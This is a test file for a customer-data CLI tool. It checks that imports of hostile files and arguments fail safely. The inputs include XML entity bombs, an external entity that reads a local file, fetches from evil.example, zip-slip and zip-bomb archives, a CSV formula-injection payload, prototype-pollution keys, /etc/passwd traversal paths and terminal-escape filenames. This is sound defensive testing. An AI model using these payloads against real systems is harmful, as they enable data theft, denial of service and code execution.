import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { kehu } from '../support/kehu.ts'
import { zipOf } from '../support/zip.ts'

const dir = mkdtempSync(join(tmpdir(), 'kehu-hostile-files-'))
afterAll(() => rmSync(dir, { recursive: true, force: true }))
beforeAll(() => {
  kehu(dir, ['init', '-q'])
})

const head = '<?xml version="1.0" encoding="UTF-8"?>'
const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** A workbook whose parts may be replaced one by one. */
function workbook(parts: Readonly<Record<string, string>> = {}): Buffer {
  return zipOf({
    '[Content_Types].xml': `${head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`,
    '_rels/.rels': `${head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `${head}<workbook xmlns="${main}" xmlns:r="${relations}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `${head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': sheet('姓名', '张伟'),
    ...parts,
  })
}

const cell = (at: string, text: string): string => `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`
const sheet = (one: string, two: string, doctype = ''): string =>
  `${head}${doctype}<worksheet xmlns="${main}"><sheetData><row r="1">${cell('A1', one)}${cell('B1', '手机')}</row><row r="2">${cell('A2', two)}${cell('B2', '13900000001')}</row></sheetData></worksheet>`

const laughs = `<!DOCTYPE lolz [<!ENTITY a "ha">${Array.from({ length: 12 }, (_, n) => `<!ENTITY ${String.fromCharCode(98 + n)} "${`&${String.fromCharCode(97 + n)};`.repeat(10)}">`).join('')}]>`
const csv = '姓名,手机\n张伟,13900000001\n'
const rows = (count: number, text: string): string => `姓名,手机\n${`${text}\n`.repeat(count)}`

/** What is made, and how it may end: with which exit codes, and what must not come out. */
interface Attack {
  readonly name: string
  readonly bytes: () => Buffer | string
  readonly codes: readonly number[]
  readonly never?: RegExp
}

const secret = 'NOBODY-MAY-READ-THIS'
const attacks: [string, Attack][] = [
  [
    'XML that grows without end',
    {
      name: 'a.xlsx',
      bytes: () => workbook({ 'xl/worksheets/sheet1.xml': sheet('姓名', '&m;', laughs) }),
      codes: [0, 1, 3, 8],
      never: /hahahaha/,
    },
  ],
  [
    'XML that reads a file',
    {
      name: 'b.xlsx',
      bytes: () =>
        workbook({
          'xl/worksheets/sheet1.xml': sheet('姓名', '&x;', `<!DOCTYPE a [<!ENTITY x SYSTEM "file://${dir}/secret">]>`),
        }),
      codes: [0, 1, 3, 8],
      never: new RegExp(secret),
    },
  ],
  [
    'XML that fetches an address',
    {
      name: 'c.xlsx',
      bytes: () =>
        workbook({
          'xl/worksheets/sheet1.xml': sheet('姓名', '张伟', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'),
        }),
      codes: [0, 1, 3, 8],
    },
  ],
  [
    'a part that lies outside the workbook',
    {
      name: 'd.xlsx',
      bytes: () =>
        workbook({
          'xl/_rels/workbook.xml.rels': `${head}<Relationships><Relationship Id="r1" Type="${relations}/worksheet" Target="../../../../../..${dir}/secret"/></Relationships>`,
        }),
      codes: [0, 1, 3],
      never: new RegExp(secret),
    },
  ],
  [
    'a part at an address',
    {
      name: 'e.xlsx',
      bytes: () =>
        workbook({
          'xl/_rels/workbook.xml.rels': `${head}<Relationships><Relationship Id="r1" Type="${relations}/worksheet" Target="http://evil.example/a.xml" TargetMode="External"/></Relationships>`,
        }),
      codes: [0, 1, 3],
    },
  ],
  [
    'a workbook of one endless part',
    {
      name: 'f.xlsx',
      bytes: () =>
        workbook({
          'xl/worksheets/sheet1.xml': sheet('姓名', '张伟').replace(
            '</sheetData>',
            `</sheetData>${' '.repeat(40 << 20)}`,
          ),
        }),
      codes: [8],
    },
  ],
  [
    'a cell in the last row and column there is',
    {
      name: 'g.xlsx',
      bytes: () =>
        workbook({
          'xl/worksheets/sheet1.xml': sheet('姓名', '张伟').replace(
            '</sheetData>',
            `<row r="1048576">${cell('XFD1048576', '远')}</row></sheetData>`,
          ),
        }),
      codes: [0, 1, 3, 8],
    },
  ],
  [
    'a row number beyond all rows',
    {
      name: 'h.xlsx',
      bytes: () => workbook({ 'xl/worksheets/sheet1.xml': sheet('姓名', '张伟').replace('r="2"', 'r="99999999999"') }),
      codes: [0, 1, 3, 8],
    },
  ],
  [
    'merged ranges without end',
    {
      name: 'i.xlsx',
      bytes: () =>
        workbook({
          'xl/worksheets/sheet1.xml': sheet('姓名', '张伟').replace(
            '</worksheet>',
            `<mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(60_000)}</mergeCells></worksheet>`,
          ),
        }),
      codes: [0, 1, 3, 8],
    },
  ],
  [
    'an archive whose files climb out',
    {
      name: 'j.zip',
      bytes: () => zipOf({ '../climbed.csv': csv, '..\\climbed.csv': csv, 'in/../../climbed.csv': csv }),
      codes: [0, 1, 3, 8],
    },
  ],
  [
    'an archive with an absolute path',
    { name: 'k.zip', bytes: () => zipOf({ [`${dir}/planted.csv`]: csv }), codes: [0, 1, 3, 8] },
  ],
  [
    'an archive in an archive in an archive',
    {
      name: 'l.zip',
      bytes: () => {
        let inner = zipOf({ 'a.csv': csv })
        for (let n = 0; n < 40; n++) inner = zipOf({ 'a.zip': inner })
        return inner
      },
      codes: [0, 1, 3, 7, 8],
    },
  ],
  [
    'an archive that unpacks to a thousand times its size',
    { name: 'm.zip', bytes: () => zipOf({ 'a.csv': Buffer.alloc(40 << 20, 0x61) }), codes: [1, 3, 8] },
  ],
  ['a gzip file that does', { name: 'n.csv.gz', bytes: () => gzipSync(Buffer.alloc(40 << 20, 0x61)), codes: [1, 8] }],
  [
    'an archive that lies about sizes',
    {
      name: 'o.zip',
      bytes: () => {
        const zip = zipOf({ 'a.csv': csv.repeat(50) })
        zip.writeUInt32LE(7, zip.lastIndexOf(Buffer.from('PK\u0001\u0002')) + 24)
        return zip
      },
      codes: [0, 1, 3, 8],
    },
  ],
  ['an archive cut in the middle', { name: 'p.xlsx', bytes: () => workbook().subarray(0, 900), codes: [1] }],
  [
    'a line of a million characters',
    { name: 'q.csv', bytes: () => `姓名,手机\n${'长'.repeat(1_100_000)},13900000001\n`, codes: [0, 1, 3, 8] },
  ],
  [
    'thirty thousand columns',
    { name: 'r.csv', bytes: () => `${'a,'.repeat(30_000)}b\n${'1,'.repeat(30_000)}2\n`, codes: [1, 8] },
  ],
  [
    'a quote that is never closed',
    {
      name: 's.csv',
      bytes: () => `姓名,手机\n"张伟,13900000001\n${'李娜,13900000003\n'.repeat(2000)}`,
      codes: [0, 1, 3],
    },
  ],
  ['quotes and nothing else', { name: 't.csv', bytes: () => '"'.repeat(200_001), codes: [0, 1, 3, 8] }],
  [
    'zero bytes among the names',
    { name: 'u.csv', bytes: () => '姓名,手机\n张\u0000伟,13900000001\n李娜,1390000\u00000003\n', codes: [0, 1, 3] },
  ],
  [
    'halves of characters',
    {
      name: 'v.json',
      bytes: () => '[{"姓名":"张\\ud800","手机":"13900000001"},{"姓名":"\\udc00李","手机":"13900000003"}]',
      codes: [0, 1, 3],
    },
  ],
  [
    'JSON that reaches for the prototype',
    {
      name: 'w.json',
      bytes: () =>
        '[{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"姓名":"张伟","手机":"13900000001"}]',
      codes: [0, 1, 3],
    },
  ],
  [
    'JSON a hundred thousand deep',
    { name: 'x.json', bytes: () => `${'['.repeat(100_000)}1${']'.repeat(100_000)}`, codes: [1, 3, 8] },
  ],
  [
    'a number with a million digits',
    { name: 'y.json', bytes: () => `[{"姓名":"张伟","手机":${'9'.repeat(1_000_000)}}]`, codes: [0, 1, 3, 8] },
  ],
  [
    'a page of tags without end',
    { name: 'z.html', bytes: () => `${'<table><tr><td>'.repeat(20_000)}姓名`, codes: [0, 1, 3, 8] },
  ],
  [
    'a card that folds one line for ever',
    {
      name: 'aa.vcf',
      bytes: () => `BEGIN:VCARD\nVERSION:3.0\nFN:张伟${'\n 甲'.repeat(300_000)}\nEND:VCARD\n`,
      codes: [0, 1, 3, 8],
    },
  ],
  [
    'a heading that is a formula',
    { name: 'bb.csv', bytes: () => `=cmd|'/C calc'!A0,手机\n张伟,13900000001\n`, codes: [0, 1, 3] },
  ],
  [
    'headings of the prototype',
    { name: 'cc.csv', bytes: () => '__proto__,constructor,姓名,手机\na,b,张伟,13900000001\n', codes: [0, 1, 3] },
  ],
  [
    'text that makes patterns run for ever',
    { name: 'dd.csv', bytes: () => rows(30, `${'a'.repeat(30_000)}!,${'1-'.repeat(5000)}`), codes: [0, 1, 3, 8] },
  ],
  [
    'dates and addresses that do',
    {
      name: 'ee.csv',
      bytes: () =>
        `姓名,生日,地址,邮箱\n${`张伟,${'1'.repeat(20_000)}年,${'浙江省杭州市'.repeat(4000)},${'a.'.repeat(20_000)}@\n`.repeat(5)}`,
      codes: [0, 1, 3, 8],
    },
  ],
  [
    'a name that is an order to the screen',
    { name: '\u001b[2J\u202efdp.csv', bytes: () => csv, codes: [0, 3], never: /\u001b\[2J|\u202e/ },
  ],
  ['a name that is a flag', { name: '--db=other.csv', bytes: () => csv, codes: [1, 2] }],
]

describe('a hostile file', () => {
  it.each(attacks)('%s', (_what, { name, bytes, codes, never }) => {
    writeFileSync(join(dir, 'secret'), secret)
    writeFileSync(join(dir, name), bytes())
    const started = performance.now()
    const run = kehu(dir, ['import', '-n', name])
    expect(codes, `${run.status} ${run.stdout.slice(0, 500)} ${run.stderr.slice(0, 2000)}`).toContain(run.status)
    expect(run.stderr).not.toMatch(/\n\s+at |bug in kehu/)
    if (never !== undefined) expect(run.stdout + run.stderr).not.toMatch(never)
    expect(performance.now() - started).toBeLessThan(50_000)
    for (const planted of ['climbed.csv', 'planted.csv', 'other.csv', '../climbed.csv'])
      expect(existsSync(join(dir, planted))).toBe(false)
    rmSync(join(dir, name))
  })

  it('a pipe that nobody writes to is no file', () => {
    execFileSync('mkfifo', [join(dir, 'pipe.csv')])
    mkdirSync(join(dir, 'folder'))
    execFileSync('mkfifo', [join(dir, 'folder', 'pipe.csv')])
    writeFileSync(join(dir, 'folder', 'a.csv'), csv)
    const run = kehu(dir, ['import', '-n', 'folder'])
    expect([0, 1, 3], run.stderr).toContain(run.status)
  })

  it('a link in a folder that leads round in a circle ends', () => {
    mkdirSync(join(dir, 'circle'))
    symlinkSync(join(dir, 'circle'), join(dir, 'circle', 'again'))
    writeFileSync(join(dir, 'circle', 'a.csv'), csv)
    const run = kehu(dir, ['import', '-n', 'circle'])
    expect([0, 1, 3], run.stderr).toContain(run.status)
  })
})

describe('what is written', () => {
  it('goes through a link to the file behind it, as a whole, and the link stays', () => {
    kehu(dir, ['add', 'nobody'])
    writeFileSync(join(dir, 'real.html'), 'before')
    symlinkSync('real.html', join(dir, 'link.html'))
    expect(kehu(dir, ['report', 'directory', '-o', 'link.html']).status).toBe(0)
    expect(readFileSync(join(dir, 'real.html'), 'utf8')).toContain('<html')
  })

  it.each([
    ['a report named by a path', ['report', '../../../etc/passwd'], [2]],
    ['a report with a period that is a path', ['report', 'weekly', '--week', '../../x'], [2]],
    ['a form named by a path', ['intake', '../../../etc/passwd', '--set', 'a=b'], [1, 2]],
    ['a segment named by a path', ['segment', 'show', '../x'], [1, 2]],
    ['a survey named like a method', ['survey', 'show', '__proto__'], [1, 2, 7]],
    ['a field named like the prototype', ['dict', '__proto__'], [0, 2, 7]],
    ['a rule named like the prototype', ['verify', '--rule', '__proto__'], [2]],
    ['a setting named like the prototype', ['config', 'set', '__proto__', 'x'], [2]],
    ['a tier scheme named like the prototype', ['tier', 'run', '--scheme', 'constructor'], [1, 2]],
    ['a help topic named like the prototype', ['help', '__proto__'], [0, 2]],
    ['a command named like the prototype', ['__proto__'], [2]],
    ['an encoding named like the prototype', ['import', '-n', 'secret', '--encoding', '__proto__'], [1, 2]],
    ['a limit named like the prototype', ['import', '-n', 'secret', '--limit', '__proto__=1'], [2]],
    ['a format named like the prototype', ['export', 'customers', '--format', '__proto__'], [2]],
    ['a zone named like a path', ['config', 'set', 'time_zone', '../../etc'], [2]],
    ['an argument of a hundred thousand characters', ['find', 'x'.repeat(100_000)], [0, 2, 7]],
    ['a zero byte in an argument file', ['show', '张\u0001伟'], [1, 2, 7]],
  ])('%s is refused in words', (_what, args, codes) => {
    const run = kehu(dir, args)
    expect(codes, `${run.status} ${run.stderr.slice(0, 800)}`).toContain(run.status)
    expect(run.stderr).not.toMatch(/\n\s+at |bug in kehu/)
  })
})
